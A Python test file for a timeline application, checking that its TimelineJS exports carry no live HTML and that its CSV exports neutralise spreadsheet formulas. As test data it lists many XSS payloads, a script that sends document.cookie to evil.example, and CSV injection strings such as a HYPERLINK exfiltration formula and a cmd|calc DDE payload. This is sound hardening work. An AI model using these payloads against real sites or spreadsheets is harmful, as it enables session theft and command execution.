"""Exports are inert: TimelineJS output carries no code whatever the HTML came from (an
import, a hidden `timelinejs` field, the user), and CSV output runs no formula in a
spreadsheet, yet reads back unchanged. Each XSS vector of the issue has a case here; the
exports are read back with html.parser (tests/hardening/published.py), not with the
sanitiser that made them.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import ROOT
from tests.hardening.published import (
    TAGS,
    check_exports,
    html_problems,
    timelinejs_problems,
    url_problem,
)
from timeline_app.core.formats.csv_formula import MARKER
from timeline_app.core.formats.csv_import import import_csv
from timeline_app.core.formats.html_safe import ALLOWED_TAGS, Sanitiser
from timeline_app.core.formats.html_text import one_line, plain_text
from timeline_app.core.formats.problems import LoadError
from timeline_app.core.formats.registry import export_bytes, load_bytes, load_path
from timeline_app.core.formats.timelinejs import CLAIMS_CLASS

# Markup vectors: elements that run, load or embed; event handlers; styles; URL schemes,
# obfuscated the ways browsers still accept; parser-confusion (mXSS) shapes.
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<svg onload=alert(1)><circle/></svg>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(https://evil.example/track)" onclick="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form action=javascript:alert(1)><button>go</button></form>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<a href="https://ok.example/" onmouseover="alert(1)">ok</a>',
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<video><source onerror=alert(1)></video>",
]
# URL fields (media.url, background.url, media.thumbnail, media.link).
URLS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x09;script:alert(1)",
        "java\tscript:alert(1)", " \x01javascript:alert(1)", "&#106;avascript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "data:image/svg+xml;base64,PHN2Zz4=",
        "vbscript:msgbox(1)", "file:///etc/passwd", "<iframe src=javascript:alert(1)>",
        '<blockquote><script>alert(1)</script></blockquote>']
EXFIL = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"


def _tljs(doc: dict[str, Any]) -> Any:
    return load_bytes(json.dumps(doc).encode(), "in.timelinejs.json")


def _export(timeline: Any, app_data: bool = True) -> tuple[dict[str, Any], list[str]]:
    data, warnings = export_bytes(timeline, "timelinejs", app_data=app_data)
    return json.loads(data), warnings


def _slide(markup: str, url: str = "https://img.example/a.jpg") -> dict[str, Any]:
    return {"start_date": {"year": 2024}, "text": {"headline": f"Head {markup}",
                                                   "text": f"<p>Body {markup}</p>"},
            "media": {"url": url, "credit": f"AP {markup}", "caption": f"Cap {markup}",
                      "thumbnail": url, "link": url},
            "group": f"G {markup}", "display_date": f"D {markup}",
            "background": {"url": url, "color": "url(javascript:alert(1))"}}


def test_the_allow_list_has_nothing_that_runs_or_loads() -> None:
    assert ALLOWED_TAGS <= TAGS
    assert not ALLOWED_TAGS & {"script", "style", "iframe", "object", "embed", "svg", "math",
                               "img", "form", "input", "link", "meta", "base", "video"}


@pytest.mark.parametrize("markup", MARKUP)
def test_imported_markup_is_published_sanitised_and_counted(markup: str) -> None:
    doc = {"title": {"text": {"headline": f"T {markup}", "text": f"About {markup}"},
                     "media": {"url": "javascript:alert(1)"}},
           "events": [_slide(markup)],
           "eras": [{"start_date": {"year": 2020}, "end_date": {"year": 2025},
                     "text": {"headline": f"Era {markup}"}}]}
    loaded = _tljs(doc)
    for app_data in (True, False):
        out, warnings = _export(loaded.timeline, app_data)
        assert timelinejs_problems(out) == []
        assert warnings and warnings[0].startswith("sanitised for publishing: removed ")
        text = json.dumps(out)
        for bad in ("alert(1)</script>", "onerror", "onload", "javascript:", "vbscript:"):
            assert bad not in text.replace("javascript:alert(1)//", ""), bad
    # What the window shows of the event is what the page says.
    event = loaded.timeline.events[0]
    slide = out["events"][0]
    assert one_line(slide["text"]["headline"]) == event.title
    assert plain_text(slide["text"]["text"].split(f'<ul class="{CLAIMS_CLASS}">')[0]) == (
        event.description)


@pytest.mark.parametrize("url", URLS)
def test_url_fields_only_carry_http_or_relative_urls(url: str) -> None:
    loaded = _tljs({"events": [_slide("", url)]})
    out, warnings = _export(loaded.timeline, app_data=False)
    assert timelinejs_problems(out) == []
    slide = out["events"][0]
    for key in ("url", "thumbnail", "link"):
        assert url_problem(slide.get("media", {}).get(key, "")) == ""
    assert "url" not in slide.get("background", {}) and "color" not in slide["background"]
    assert "url (not an http(s) or relative URL)" in warnings[0]


def test_good_urls_and_relative_links_stay() -> None:
    markup = ('<a href="https://a.example/x?y=1&amp;z=2">a</a> <a href="/about">b</a> '
              '<a href="#more">c</a> <b>bold</b> <ul><li>item</li></ul> <q>q</q>')
    slide = _slide(markup, "images/photo.jpg")
    slide["background"]["color"] = "#a0b0c0"
    slide["media"].update(credit="AP", caption="A photo")
    loaded = _tljs({"events": [slide]})
    out, warnings = _export(loaded.timeline, app_data=False)
    slide = out["events"][0]
    assert warnings == [] and timelinejs_problems(out) == []
    assert '<a href="https://a.example/x?y=1&amp;z=2">a</a>' in slide["text"]["text"]
    assert '<a href="/about">b</a>' in slide["text"]["text"]
    assert slide["media"]["url"] == slide["media"]["thumbnail"] == "images/photo.jpg"
    assert slide["background"] == {"url": "images/photo.jpg", "color": "#a0b0c0"}


@pytest.mark.parametrize("url", [
    "https://e.org/" + "u" * 6000 + "<script>" + "u" * 3900,  # found by the fuzzer
    "https://e.org/a<script>alert(1)</script>", "https://e.org/a'><img src=x onerror=alert(1)>",
    'https://e.org/a" onmouseover="alert(1)'])
def test_a_claims_link_cannot_carry_markup_into_the_page(url: str) -> None:
    """The list of claims under a slide links each claim's URL: one with markup in it is
    left out, quotes are %-encoded, and the page has nothing the checker objects to."""
    doc = json.dumps([{"title": "T", "start": "2024", "source": "NIS", "url": url}])
    timeline = load_bytes(doc.encode(), "links.json").timeline
    for app_data in (True, False):
        out, _ = _export(timeline, app_data)
        assert timelinejs_problems(out) == []
        text = out["events"][0]["text"]["text"]
        assert "<script" not in text and "onerror" not in text.replace("onerror%3D", "")
        assert " onmouseover=" not in text


def test_a_hidden_timelinejs_field_does_not_publish_its_script(tmp_path: Path) -> None:
    """The issue's case: a native file whose window view and `check` show only "Hello"."""
    native = {"format": "timeline-app", "version": 1, "title": "Hello",
              "sources": [{"id": "s", "name": "S"}],
              "events": [{"id": "e", "title": "Hello", "start": "2024",
                          "claims": [{"source": "s"}],
                          "timelinejs": {"text": {"headline": f"Hello{EXFIL}",
                                                  "text": EXFIL},
                                         "media": {"url": "javascript:alert(1)"},
                                         "x": {"y": [f"<img src=x onerror=alert(1)>{EXFIL}"]}}}]}
    path = tmp_path / "hello.timeline.json"
    path.write_text(json.dumps(native), encoding="utf-8")
    loaded = load_bytes(path.read_bytes(), path.name)
    assert loaded.timeline.events[0].title == "Hello"
    for app_data in (True, False):
        out, warnings = _export(loaded.timeline, app_data)
        assert "document.cookie" not in json.dumps(out) and timelinejs_problems(out) == []
        assert out["events"][0]["text"]["headline"] == "Hello"
        assert "<script> ×" in warnings[0] and "onerror" in warnings[0]
    # The command line says it too, and exits 0 (nothing was lost, only made inert).
    target = tmp_path / "out.timelinejs.json"
    proc = subprocess.run([sys.executable, "-m", "timeline_app.cli", "export", str(path),
                           "-o", str(target), "--no-app-data"], capture_output=True, text=True,
                          timeout=60, cwd=ROOT)
    assert proc.returncode == 0, proc.stderr
    assert "sanitised for publishing: removed" in proc.stderr
    assert "<script" not in target.read_text(encoding="utf-8")


def test_user_text_with_markup_is_escaped_not_sanitised_away() -> None:
    """What the user typed is text: it is published escaped, as text, in full."""
    native = {"title": "<b>not bold</b>", "start": "2024",
              "description": f"{MARKUP[2]} & {EXFIL}",
              "claims": [{"source": "S", "text": MARKUP[0], "url": "javascript:alert(1)"}]}
    loaded = load_bytes(json.dumps([native]).encode(), "list.json")
    out, warnings = _export(loaded.timeline)
    slide = out["events"][0]
    assert timelinejs_problems(out) == []
    assert plain_text(slide["text"]["headline"]) == "<b>not bold</b>"
    assert EXFIL in plain_text(slide["text"]["text"])
    assert "href" not in slide["text"]["text"]  # the javascript: claim link is not a link
    assert warnings == []  # nothing was removed: it was all text


def test_window_export_says_what_was_removed(qtbot, window, tmp_path: Path) -> None:
    from tests.ui.conftest import open_and_wait
    from timeline_app.ui import export_actions

    path = tmp_path / "in.json"
    path.write_text(json.dumps({"events": [_slide(MARKUP[0])]}), encoding="utf-8")
    open_and_wait(qtbot, window, path)
    target = tmp_path / "out.timelinejs.json"
    assert export_actions.export_data(window, "timelinejs", target)
    message = window.statusBar().currentMessage()
    assert "sanitised for publishing: removed" in message and "<script>" in message
    assert timelinejs_problems(json.loads(target.read_text(encoding="utf-8"))) == []


def test_html_problems_checker_catches_what_it_must() -> None:
    """The checker the fuzzing relies on sees each vector in raw markup, but for "<!-->",
    which html.parser reads as an open comment where browsers (and ammonia) end it; the
    sanitiser's output has no comments, so the fuzzing's check is not blinded by it."""
    assert [m for m in MARKUP if not html_problems(m)] == ["<!--><img src=x onerror=alert(1)>-->"]
    assert html_problems('<p><a href="/x" title="t">a</a></p>') == []


CORPUS = ROOT / "tests" / "corpus" / "bad"
CASES = sorted(p.name for p in CORPUS.iterdir() if p.name != "MANIFEST.json")


@pytest.mark.parametrize("name", CASES)
def test_every_corpus_case_that_loads_exports_safely(name: str) -> None:
    """Each hardening case that opens exports to every format (pictures included) with
    nothing live in the TimelineJS output, no formula in the CSV, a well-formed SVG."""
    path = CORPUS / name
    try:
        result = load_path(path)
    except LoadError:
        return
    check_exports(result.timeline, name)


def test_corpus_cases_of_this_issue_export_as_they_must() -> None:
    hidden = load_path(CORPUS / "native-hidden-timelinejs-script.json").timeline
    out, warnings = _export(hidden)
    assert "document.cookie" not in json.dumps(out) and "sanitised for publishing" in warnings[0]
    xss = load_path(CORPUS / "tjs-xss-every-vector.json").timeline
    out, warnings = _export(xss, app_data=False)
    assert timelinejs_problems(out) == [] and int(warnings[0].split()[4]) >= 100
    own = load_path(CORPUS / "csv-own-export-formulas.csv").timeline
    assert [e.title for e in own.events] == [
        '=HYPERLINK("https://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
        "@SUM(A1)", "'=quoted", "-5"]
    other = load_path(CORPUS / "csv-third-party-apostrophes.csv").timeline
    assert [e.title for e in other.events] == ["'=quoted", "'plain"]


# -- CSV -----------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "'=already quoted", "''=twice", "=", "-", "+", "@"]
PLAIN = ["-5", "+1.5", "-0.25", "plain", "'leading apostrophe", "a=b", " =spaced", ""]


def _document(texts: list[str]) -> Any:
    events = [{"id": f"e{i}", "title": t or "untitled", "start": "2024",
               "description": t, "location": t, "tags": [t] if t.strip() else [],
               "claims": [{"source": t.strip() or "S"}]} for i, t in enumerate(texts)]
    return load_bytes(json.dumps(events).encode(), "list.json").timeline


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_that_start_a_formula_get_an_apostrophe() -> None:
    timeline = _document(FORMULAS + PLAIN)
    data, warnings = export_bytes(timeline, "csv")
    rows = _cells(data)
    assert rows[0][-1] == MARKER
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell in (
                "-5", "+1.5", "-0.25"), cell
    titles = [r[3] for r in rows[1:]]
    assert titles[:len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert titles[len(FORMULAS):] == [p or "untitled" for p in PLAIN]  # numbers stay numbers
    assert any("got a leading '" in w and "--raw" in w for w in warnings)


def test_csv_round_trip_gives_back_every_cell_unchanged() -> None:
    timeline = _document(FORMULAS + PLAIN)
    data, warnings = export_bytes(timeline, "csv")
    back = import_csv(data, "export.csv").timeline
    raw = import_csv(export_bytes(timeline, "csv", raw=True)[0], "raw.csv").timeline
    assert [(e.title, e.description, e.location, e.tags) for e in back.events] == [
        (e.title, e.description, e.location, e.tags) for e in raw.events]
    assert [e.title for e in back.events] == [e.title.strip() for e in timeline.events]
    # A name holding | reads back as several sources (a cell lists names split by ; or |),
    # and the export says so; every other name comes back unchanged.
    names = sorted(s.name for s in timeline.sources.values())
    assert any("|" in n for n in names) and any("read back as several sources" in w
                                                 for w in warnings)
    whole = {s.name for s in back.sources.values()}
    assert [n for n in names if "|" not in n] == sorted(n for n in whole
                                                        if n in names and "|" not in n)
    assert all(part.strip() in whole for n in names for part in n.split("|"))
    assert "csv" in back.extra and MARKER not in json.dumps(back.extra)


def test_a_third_party_apostrophe_is_not_eaten() -> None:
    """Without our marker, a leading ' is the sheet's own text and stays."""
    data = b"date,title,remark\n2024,'=quoted,'-x\n2025,''=two,'@y\n"
    t = import_csv(data, "other.csv").timeline
    assert [e.title for e in t.events] == ["'=quoted", "''=two"]
    assert [e.extra["remark"] for e in t.events] == ["'-x", "'@y"]
    # And a marker-like text in another column than the last is not a marker.
    data = f"date,{MARKER},title\n2024,x,'=quoted\n".encode()
    assert import_csv(data, "other.csv").timeline.events[0].title == "'=quoted"


def test_raw_csv_writes_cells_as_they_are(tmp_path: Path) -> None:
    timeline = _document(FORMULAS)
    raw = _cells(export_bytes(timeline, "csv", raw=True)[0])
    assert MARKER not in raw[0] and [r[3] for r in raw[1:]] == FORMULAS
    source = tmp_path / "in.json"
    source.write_text(json.dumps([{"title": "=1+1", "start": "2024"}]), encoding="utf-8")
    run = [sys.executable, "-m", "timeline_app.cli", "export", str(source)]
    for extra, expected in (([], "'=1+1"), (["--raw"], "=1+1")):
        out = tmp_path / "out.csv"
        proc = subprocess.run([*run, "-o", str(out), *extra], capture_output=True, text=True,
                              timeout=60, cwd=ROOT)
        assert proc.returncode == 0, proc.stderr
        assert _cells(out.read_bytes())[1][3] == expected
    proc = subprocess.run([*run, "-o", str(tmp_path / "x.json"), "--raw"], capture_output=True,
                          text=True, timeout=60, cwd=ROOT)
    assert proc.returncode == 2 and "--raw applies to CSV output" in proc.stderr


def test_a_class_that_is_not_ours_leaves_no_empty_attribute() -> None:
    """Found by fuzzing: a mutated claims-list class came out as `<ul class="">`."""
    clean = Sanitiser()
    assert clean.html('<ul class="timelinnulle-app-claims"><li>x</li></ul>') == \
        "<ul><li>x</li></ul>"
    assert clean.html('<ul class="timeline-app-claims"><li>x</li></ul>') == \
        '<ul class="timeline-app-claims"><li>x</li></ul>'
    assert clean.html('<p>a class="" b</p>') == '<p>a class="" b</p>'  # text stays text
    assert html_problems('<ul class="x y"><li>x</li></ul>') != []
    assert html_problems(clean.html('<ul class="x y"><li>x</li></ul>')) == []
